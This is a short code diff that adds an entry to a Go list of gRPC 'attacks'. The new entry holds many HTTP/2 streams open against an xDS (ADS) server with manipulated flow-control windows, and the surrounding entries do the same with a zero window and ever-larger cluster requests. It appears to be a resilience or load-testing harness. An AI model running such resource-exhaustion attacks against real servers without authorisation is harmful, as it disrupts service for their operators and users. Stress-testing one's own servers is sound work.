@@ -39,6 +39,16 @@ var grpcAttacks = []attack{
 		return t.hold(ctx, 16, 64, func(c *wire, _ int) error { return c.call(adsPath, names(3, 4, 0, 0)) },
 			http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 	}},
+	{name: "all services, read", run: func(ctx context.Context, t *target) error {
+		return t.hold(ctx, 8, 64, func(c *wire, _ int) error {
+			if c.next == 1 {
+				if err := c.WriteWindowUpdate(0, maxWindow-65535); err != nil {
+					return err
+				}
+			}
+			return c.call(adsPath, names(3, 4, 0, 0))
+		}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: maxWindow})
+	}, long: 4}, // so that all streams are answered
 	{name: "ever more clusters of a stream", run: func(ctx context.Context, t *target) error {
 		return t.hold(ctx, 8, 4, func(c *wire, n int) error {
 			if err := c.call(deltaPath, names(3, 2, n*10_000, 2_000)); err != nil {
